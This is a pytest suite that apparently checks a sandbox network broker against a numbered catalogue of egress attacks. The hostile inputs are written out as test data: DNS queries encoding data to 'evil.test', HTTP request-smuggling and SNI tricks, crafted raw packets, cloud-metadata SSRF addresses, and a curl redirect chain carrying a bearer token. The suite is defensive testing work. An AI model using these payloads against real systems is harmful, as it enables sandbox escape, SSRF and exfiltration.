"""Ways out of a sandbox that may reach one name, tried one by one, with a recorder outside that has to see nothing.

The numbers are those of a catalogue of attacks on sandboxes' networks: direct (1), by questions (2), by spellings (3, 5, 7, 10),
by bytes that parsers read differently (4, 11, 12), without a list (6), to places near the host (8), by what names lead to (9),
by redirects with a credential (13), more than a budget to an allowed place (14), by floods (15), by faults of the broker's parsers (16),
to neighbours (17) and from outside (18).
"""
import json
import subprocess

import pytest

from egress_world import NEEDS_ROOT, PUBLIC, PYTHON, SECOND, SIX, ZONE, https
from egress_world import inside, internet, world  # noqa: F401 (fixtures)

pytestmark = NEEDS_ROOT

RULE = https("api.example.com", [80, 443, 7002])


def nothing_leaves(inside, code, *arguments, rules=(RULE,), stdout=None):
    """Runs it with the list and without: the recorder sees what reaches anything but the resolver."""
    inside.internet.seen()
    done = inside.python(code, *arguments, policy=inside.reach(*rules))
    assert done["exit_code"] == 0, done["stderr"]
    seen = inside.internet.seen()
    assert inside.internet.bytes_to(seen) == 0, seen
    if stdout is not None:
        assert done["stdout"] == stdout
    return done, seen


TRY = """
import socket, sys
def tcp(host, port, data=b"out"):
    try:
        s = socket.create_connection((host, port), timeout=3); s.sendall(data); return s.recv(10) != b""
    except (OSError, OverflowError, UnicodeError): return False
def udp(host, port, data=b"out"):
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3); s.sendto(data, (host, port)); return s.recv(10) != b""
    except (OSError, OverflowError, UnicodeError): return False
def raw(family, kind, protocol):
    try: socket.socket(family, kind, protocol); return True
    except OSError: return False
"""


def test_1_nothing_leaves_directly_by_any_protocol(inside):
    nothing_leaves(inside, TRY + f"""
print([tcp(h, p) for h in ("{PUBLIC}", "{SECOND}", "{SIX}", "10.66.0.1") for p in (80, 443, 7002)].count(True),
      [udp(h, p) for h in ("{PUBLIC}", "{SIX}", "255.255.255.255", "ff02::1") for p in (443, 7003, 53413)].count(True),
      [raw(socket.AF_INET, socket.SOCK_RAW, 1), raw(socket.AF_INET6, socket.SOCK_RAW, 58), raw(socket.AF_PACKET, socket.SOCK_RAW, 3),
       raw(socket.AF_INET, socket.SOCK_SEQPACKET, 132)].count(True))
""", stdout="0 0 0\n")


RAW = TRY + """
import struct
name = socket.gethostbyname("api.example.com")
raw = {number: socket.socket(socket.AF_INET, socket.SOCK_RAW, number) for number in (1, 6, 17, 47, 132, 255)}
raw[255].setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); link.bind(("lo", 0x800))
def whole(to, protocol, body, offset=0, options=b"", version=0x45):
    return struct.pack("!BBHHHBBH4s4s", version + len(options) // 4, 0, 20 + len(options) + len(body), 7, offset, 64, protocol, 0,
                       socket.inet_aton("192.0.2.77"), socket.inet_aton(to)) + options + body
def put(s, data, to):
    try: s.sendto(data, to)
    except OSError: pass
ports = struct.pack("!HH", 4000, 7002)
source_route = bytes([131, 7, 4]) + socket.inet_aton(sys.argv[1]) + bytes(1)
for to in sys.argv[1:]:
    put(raw[1], b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", (to, 0)); put(raw[132], ports + bytes(20), (to, 0)); put(raw[47], bytes(24), (to, 0))
for to in (*sys.argv[1:], name):
    for flags in range(0, 256, 3): put(raw[6], ports + bytes(8) + bytes([0x50, flags]) + bytes(6), (to, 0))
    put(raw[17], struct.pack("!HHHH", 4000, 7003, 11, 0) + b"out", (to, 0))
    for packet in (whole(to, 17, ports + bytes(700), 0x2000), whole(to, 17, bytes(700), 88), whole(to, 6, ports + bytes(4), 0x2000), whole(to, 6, bytes(12), 1),
                   whole(to, 4, whole(sys.argv[1], 17, ports + bytes(4))), whole(to, 17, ports + bytes(4), options=source_route),
                   whole(to, 6, ports + bytes(8) + b"\\x50\\2" + bytes(6), options=source_route), whole(to, 58, bytes(40)), whole(to, 6, b"", version=0x65)):
        put(raw[255], packet, (to, 0)); put(link, bytes(12) + b"\\x08\\0" + packet, ("lo", 0x800))
lite = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); put(lite, b"out", (sys.argv[1], 7003))
"""


def test_1_no_raw_packet_leaves_and_each_is_told_as_what_it_is(inside):
    """A profile that lets programs make packets themselves: the name that they may reach gets the openings of connections at most."""
    if inside.rootless:
        pytest.skip("the profile 'oci' needs subordinate ids")
    policy = inside.policy(extends=["oci"], network={"egress": [RULE]})
    inside.internet.seen()
    out, events, end = inside.events(PYTHON, "-c", RAW + "print(tcp('api.example.com', 7002))", PUBLIC, SECOND, policy=policy)
    assert out == "True\n" and "egress" not in end["missing"], (out, end)
    seen = inside.internet.seen()
    assert inside.internet.bytes_to(seen) == inside.internet.bytes_to(seen, (PUBLIC, 7002)) == 3
    assert {(f["to"], f["port"]) for f in seen if f["kind"] == "packet" and f["to"] != "192.0.2.53"} == {(PUBLIC, 7002)}
    others = [event for event in events if event.get("protocol", "tcp") not in ("tcp", "udp")]
    told = {(event.get("address"), event["protocol"]) for event in others if event["event"] == "refuse"}
    assert told >= {(to, protocol) for to in (PUBLIC, SECOND) for protocol in ("icmp", "sctp", "ip-47")} | {(PUBLIC, "udplite")}, told
    assert all(event["reason"] == "protocol" and "mend" not in event and "why" not in event for event in others)


def test_2_questions_carry_nothing_to_anybody(inside):
    code = TRY + """
import struct
def question(name): return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack("!HH", 16, 1)
for i in range(3):
    q = question(f"{i:050x}.evil.test")
    for host in ("192.0.2.53", "8.8.8.8", "192.0.2.10"): udp(host, 53, q)
    tcp("192.0.2.53", 53, struct.pack("!H", len(q)) + q)
    udp("224.0.0.251", 5353, q); udp("ff02::fb", 5353, q); udp("224.0.0.252", 5355, q)
    try: socket.getaddrinfo(f"{i:050x}.evil.test", 1)
    except OSError: pass
for place in (("192.0.2.53", 853), ("192.0.2.10", 443), ("192.0.2.53", 443)): tcp(*place)
"""
    _, seen = nothing_leaves(inside, code)
    assert [f for f in seen if f["kind"] == "question"] == []


def test_3_5_7_10_no_spelling_is_another_place(inside):
    hosts = ["evil.test", "evilapi.example.com", "api.example.com.evil.test", "example.com", "x.api.example.com", "api.example.comm",
             "api..example.com", ".api.example.com", "api.example.com..", "api.example.com%2eevil.test", "api.example.com\\t", "api_example.com",
             "api.ex\\u0430mple.com", "xn--pi-7kb.example.com", "a" * 64 + ".example.com",
             "a." * 127 + "com", "0x7f000001", "2130706433", "127.1", "0177.0.0.1", "::ffff:127.0.0.1", "[::1]", "0", "192.0.2.10.",
             "3221225994", "0300.0.2.10", "0xc0.0.2.10", "::ffff:192.0.2.10", "2002:c000:20a::1", "64:ff9b::c000:20a", "fe80::1%lo"]
    code = TRY + "hosts = [h.encode().decode('unicode_escape') for h in sys.argv[1:]]\n" \
                 "print([h for h in hosts for p in (80, 443, 7002) if tcp(h, p)])"
    nothing_leaves(inside, code, *hosts, stdout="[]\n")
    ports = TRY + 'print([p for p in (1, 79, 81, 442, 444, 7000, 7001, 8080, 65535, 0, 65536, -1) if tcp("api.example.com", p)])'
    nothing_leaves(inside, ports, stdout="[]\n")


HELLO = TRY + """
import struct
def hello(sni, version=b"\\3\\1"):
    extension = b"" if sni is None else struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    body = b"\\3\\3" + b"r" * 32 + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0" + struct.pack("!H", len(extension)) + extension
    message = b"\\1" + len(body).to_bytes(3, "big") + body
    return b"\\x16" + version + struct.pack("!H", len(message)) + message
"""


def test_4_11_no_hello_asks_for_another_name(inside):
    code = HELLO + """
good = b"api.example.com"
names = [b"evil.test", good + b"\\0.evil.test", b"evil.test\\0" + good, good + b"\\n", b"\\x01" + good, good + b" ", b"*.example.com", b"",
         b"192.0.2.10", good + b":443", b"api.example.com/", good.replace(b".", b"\\xe3\\x80\\x82"), None]
print([n for n in names if tcp("api.example.com", 443, hello(n))],
      tcp("api.example.com", 443, b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n"), tcp("api.example.com", 443, b"SSH-2.0-x\\r\\n"),
      tcp("api.example.com", 443, b"\\x80\\x2e\\1\\3\\1" + bytes(40)), tcp("api.example.com", 443, hello(good)[:-1] + b"\\0" * 20000))
"""
    nothing_leaves(inside, code, stdout="[] False False False False\n")


REQUESTS = TRY + """
host = b"Host: api.example.com\\r\\n"
requests = [b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n" + host + b"Host: evil.test\\r\\n\\r\\n",
            b"GET http://evil.test/ HTTP/1.1\\r\\n" + host + b"\\r\\n", b"GET / HTTP/1.1\\n" + host + b"\\n", b"GET / HTTP/1.1\\r\\nHost : api.example.com\\r\\n\\r\\n",
            b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n folded: x\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: api.example.com\\0.evil.test\\r\\n\\r\\n",
            b"POST / HTTP/1.1\\r\\n" + host + b"Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
            b"POST / HTTP/1.1\\r\\n" + host + b"Content-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\nhello",
            b"CONNECT evil.test:443 HTTP/1.1\\r\\n" + host + b"\\r\\n", b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
            b"GET / HTTP/1.1\\r\\n" + host + b"A: " + b"x" * (1 << 20) + b"\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: api.example.com:81\\r\\n\\r\\n",
            b"GET / HTTP/1.1\\r\\n" + host + b"Upgrade: TLS/1.0\\r\\nConnection: Upgrade\\r\\n\\r\\n",
            b"GET / HTTP/1.1\\r\\n" + host + b"Upgrade: websocket, h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n"]
def answered(data):
    try:
        s = socket.create_connection(("api.example.com", 80), timeout=3); s.sendall(data); return s.recv(12)[:12] not in (b"", b"HTTP/1.1 400")
    except OSError: return False
print([i for i, r in enumerate(requests) if answered(r)])
"""


def test_4_12_no_request_hides_another_one(inside):
    nothing_leaves(inside, REQUESTS, stdout="[]\n")


def test_12_every_such_request_arrives_where_nobody_looks(inside):
    """Without the protection: what a rule doesn't inspect is relayed, and each of them reaches the server."""
    inside.internet.seen()
    done = inside.python(REQUESTS, policy=inside.reach({**https("api.example.com", [80]), "inspect": "none"}))
    heads = [f["head"] for f in inside.internet.seen() if f["kind"] == "request"]
    assert done["exit_code"] == 0
    for hidden in ("Host: evil.test", "GET http://evil.test/", "CONNECT evil.test:443", "PRI * HTTP/2.0", "Host : api", "\r\n folded: x", "\0.evil.test",
                   "Transfer-Encoding: chunked", "Content-Length: 6", "x" * 100000, "api.example.com:81", "Upgrade: TLS/1.0", "Upgrade: websocket, h2c"):
        assert any(hidden in head for head in heads), hidden
    assert [i for i in range(16) if i not in json.loads(done["stdout"])] == [4]  # lines that end with LF alone this server doesn't know


def test_6_no_list_an_empty_one_and_a_broken_one_deny_all(inside):
    code = TRY + f'print(tcp("api.example.com", 7002), tcp("{PUBLIC}", 7002), udp("{PUBLIC}", 7003))'
    nothing_leaves(inside, code, rules=(), stdout="False False False\n")
    inside.internet.seen()
    for network in ({}, {"egress": []}, {"egress": None}, {"egress": [{"host": ""}]}, {"egress": "api.example.com:7002"}, {"egres": [RULE]}, None):
        done = inside.run(PYTHON, "-c", code, policy=inside.policy(extends=["tool"], **{"network": network}))
        assert b"True" not in done.stdout and done.returncode in (0, 125)
    assert inside.internet.seen() == []


def test_8_9_no_name_and_no_address_leads_near_the_host(inside):
    inside.internet.ask(zone={**ZONE, "turn.example.com": [[PUBLIC], ["169.254.169.254"]], "deep.example.com": ["cname:chain.example.com"]})
    near = ["private", "meta", "loop", "mapped", "nat64", "sixto4", "zero", "cgnat", "own", "ula", "multi", "evilchain"]
    code = TRY + "print([h for h in sys.argv[1:] for p in (80, 7002, 53) if tcp(h, p)])"
    places = [f"{name}.example.com" for name in near] + ["169.254.169.254", "127.0.0.1", "::1", "10.66.0.1", "100.64.0.1", "0.0.0.0", "::",
                                                         "192.0.2.1", "2001:db8::1", "fe80::1", "224.0.0.1", "198.18.0.1", "fd70:696e:666f:6c64::1"]
    nothing_leaves(inside, code, *places, rules=(https("*.example.com", [80, 7002, 53]),), stdout="[]\n")


FOLLOW = """
import subprocess, sys
for place in sys.argv[1:]:
    done = subprocess.run(["curl", "-s", "-g", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "-L", "--location-trusted",
                           "-H", "Authorization: Bearer s3cret-token", "http://api.example.com/to/" + place], capture_output=True, text=True)
    print(place, done.stdout, done.returncode != 0)
"""


def test_13_no_redirect_takes_a_credential_to_another_place(inside):
    places = ["http://evil.test/", "http://www.example.com/", "http://api.example.com:7002/", f"http://{SECOND}/", f"http://[{SIX}]/",
              f"http://{PUBLIC}/", "http://169.254.169.254/latest/meta-data/", "http://10.66.0.1/", "http://api.example.com.evil.test/",
              "http://user@www.example.com/", "https://a.files.example.org/"]
    inside.internet.seen()
    done = inside.python(FOLLOW, *places, policy=inside.reach(https("api.example.com", [80])))
    seen = inside.internet.seen()
    lines = done["stdout"].splitlines()
    assert len(lines) == len(places) and all(line.endswith(" True") for line in lines), done
    heads = [f["head"] for f in seen if f["kind"] == "request"]
    assert len(heads) == len(places) and all("\r\nHost: api.example.com\r\n" in head and " /to/" in head for head in heads)
    assert all("s3cret-token" in head for head in heads)
    assert inside.internet.bytes_to(seen) == inside.internet.bytes_to(seen, (PUBLIC, 80)) > 0
    assert {f["name"] for f in seen if f["kind"] == "question"} <= {"api.example.com"}
    # without the wall the redirect takes it along
    inside.python(FOLLOW, "http://www.example.com/", policy=inside.reach(https("*.example.com", [80])))
    heads = [f["head"] for f in inside.internet.seen() if f["kind"] == "request"]
    assert any("\r\nHost: www.example.com\r\n" in head and "s3cret-token" in head for head in heads)


PUSH = TRY + """
import threading
names = socket.gethostbyname("api.example.com")
def push():
    try:
        s = socket.create_connection((names, 7000), timeout=60)
        for _ in range(10): s.sendall(b"x" * 100000)
        s.shutdown(socket.SHUT_WR); s.recv(10)
    except OSError: pass
every = [threading.Thread(target=push) for _ in range(20)]
for one in every: one.start()
for one in every: one.join()
"""
MORE = "print([udp(names, 7003, bytes(1000)) for _ in range(2)].count(True), [tcp(names, 7000) for _ in range(10)].count(True))"


def test_14_no_more_leaves_than_a_budget_says(inside):
    budget = {"ports": [7000], "budget": "small"}
    policy = inside.policy(extends=["tool"], network={
        "egress": [{"host": "api.example.com", **budget}, {"host": "api.example.com", **budget, "ports": [7003], "protocol": "udp"}],
        "budgets": [{"name": "small", "bytes_out": "64KiB"}]})
    inside.internet.seen()
    done = inside.python(PUSH + MORE, policy=policy)
    assert done["stdout"] == "0 0\n", done
    assert done["usage"]["egress"]["bytes_out"] == 65536
    seen = inside.internet.seen()
    assert 0 < inside.internet.bytes_to(seen) == inside.internet.bytes_to(seen, (PUBLIC, 7000)) <= 65536
    # without a budget more than that leaves
    inside.python(PUSH, policy=inside.reach(https("api.example.com", [7000])))
    assert inside.internet.bytes_to(inside.internet.seen()) > 20 * 65536


def test_15_floods_of_what_is_refused_carry_nothing(inside):
    nothing_leaves(inside, TRY + f"""
import threading
def flood(number):
    for i in range(30):
        for place in (("{PUBLIC}", 80 + i), ("api.example.com", 8000 + i), (f"{{number:x}}{{i:x}}.evil.test", 443), ("198.19.7.%d" % i, 7002)): tcp(*place)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"out", ("{PUBLIC}", 7003)); s.close()
every = [threading.Thread(target=flood, args=(number,)) for number in range(8)]
for one in every: one.start()
for one in every: one.join()
print(tcp("{PUBLIC}", 7002))
""", stdout="False\n")


NOISE = TRY + """
import random, threading
question = b"\\0\\1\\1\\0\\0\\1" + bytes(5) + b"\\1\\3api\\7example\\3com\\0\\0\\1\\0\\1\\0\\0\\x29\\4\\xd0" + bytes(6)
hello = b"\\x16\\3\\1\\0\\x51\\1\\0\\0\\x4d\\3\\3" + bytes(32) + b"\\0\\0\\2\\x13\\1\\1\\0\\0\\x22\\0\\0\\0\\x1e\\0\\x1c\\0\\0\\x19" + b"other.example.com.evil.te"
request = b"POST / HTTP/1.1\\r\\nHost: evil.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5;x\\r\\nhello\\r\\n0\\r\\nA: b\\r\\n\\r\\n"
api = socket.gethostbyname("api.example.com")
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def send(port, data):
    with socket.socket() as s:
        s.settimeout(60)
        try: s.connect(("9.9.9.9" if port == 53 else api, port)); s.sendall(data); s.shutdown(socket.SHUT_WR); s.recv(100)
        except OSError: pass
def work(number):
    drawn = random.Random(number)
    def noise(size): return drawn.randbytes(drawn.randrange(size))
    def broken(data):
        data = bytearray(data)
        for _ in range(drawn.randrange(1, 6)): data[drawn.randrange(len(data))] = drawn.randrange(256)
        return bytes(data[:drawn.randrange(1, len(data) + 1)])
    for i in range(10):
        asker.sendto(broken(question) if i % 2 else noise(1500), ("9.9.9.9", 53))
        for port, data in ((53, noise(300)), (53, len(question).to_bytes(2, "big") + broken(question)), (443, broken(hello)),
                           (443, b"\\x16\\3\\1" + noise(99)), (80, broken(request)), (80, noise(300))): send(port, data)
every = [threading.Thread(target=work, args=(number,)) for number in range(10)]
for one in every: one.start()
for one in every: one.join()
print(socket.gethostbyname("api.example.com") == api)
"""


def test_16_bytes_that_are_none_of_its_protocols_get_past_no_parser(inside):
    """And the broker is the same afterwards."""
    done, seen = nothing_leaves(inside, NOISE, stdout="True\n")
    assert "egress" not in done["missing"]
    assert {f["name"] for f in seen if f["kind"] == "question"} <= {"api.example.com"}


def test_17_the_broker_listens_to_nobody_outside_its_sandbox(inside):
    policy = inside.reach(RULE)
    process = inside.spawn(inside.argv(PYTHON, "-c", "print('up', flush=True); import time; time.sleep(4)", policy=policy), stdout=subprocess.PIPE,
                           text=True)
    try:
        assert process.stdout.readline() == "up\n"
        host = ["nsenter", f"--net=/run/netns/{inside.internet.host}"]
        listening = subprocess.run([*host, "ss", "-Hlnxtuap"], capture_output=True, text=True).stdout
        assert not [line for line in listening.splitlines() if "pinfold-broker" in line and "LISTEN" in line], listening
    finally:
        process.kill()
        process.wait()


def test_17_a_neighbours_names_and_sockets_lead_nowhere(inside):
    """What one sandbox has been let in for is of no use to another, at the same addresses and ports."""
    waits = TRY + "print(tcp('api.example.com', 7002), socket.gethostbyname('api.example.com'), flush=True); sys.stdin.read()"
    neighbour = inside.spawn(inside.argv(PYTHON, "-c", waits, policy=inside.reach(RULE), options=["--stdin", "-"]), stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, text=True)
    try:
        reached, address = neighbour.stdout.readline().split()
        assert reached == "True"
        inside.internet.seen()
        nothing_leaves(inside, TRY + """
six = "fd70:696e:666f:6c64::" + "%x" % int(sys.argv[1].rsplit(".")[-1])
ports = [53, 80, 443, 7002, 9999] + list(range(1, 65536, 2047))
print([(h, p) for h in (sys.argv[1], six, "127.0.0.1", "::1") for p in ports if tcp(h, p)], open("/proc/net/unix").read().count("@"))
""", address, rules=(https("www.example.com", [9]),), stdout="[] 0\n")
    finally:
        neighbour.communicate("")


def test_18_nobody_comes_in(inside):
    code = """
import socket
s = socket.create_server(("::", 9000), family=socket.AF_INET6, dualstack_ipv6=True); s.settimeout(4)
print("up", flush=True)
try: s.accept(); print("came in")
except OSError: print("nobody")
"""
    process = inside.spawn(inside.argv(PYTHON, "-c", code, policy=inside.reach(RULE)), stdout=subprocess.PIPE, text=True)
    assert process.stdout.readline() == "up\n"
    knock = "import socket, sys\nfor host in sys.argv[1:]:\n  try: socket.create_connection((host, 9000), timeout=0.4); print(host)\n  except OSError: pass"
    for network, places in ((inside.internet.host, ["127.0.0.1", "::1", "192.0.2.1", "2001:db8::1", "198.18.0.1"]),
                            (inside.internet.net, ["192.0.2.1", "2001:db8::1", "198.18.0.1"])):
        done = subprocess.run(["nsenter", f"--net=/run/netns/{network}", PYTHON, "-c", knock, *places], capture_output=True, text=True)
        assert done.stdout == ""
    assert process.communicate(timeout=60)[0] == "nobody\n"
    assert inside.internet.bytes_to(inside.internet.seen()) == 0
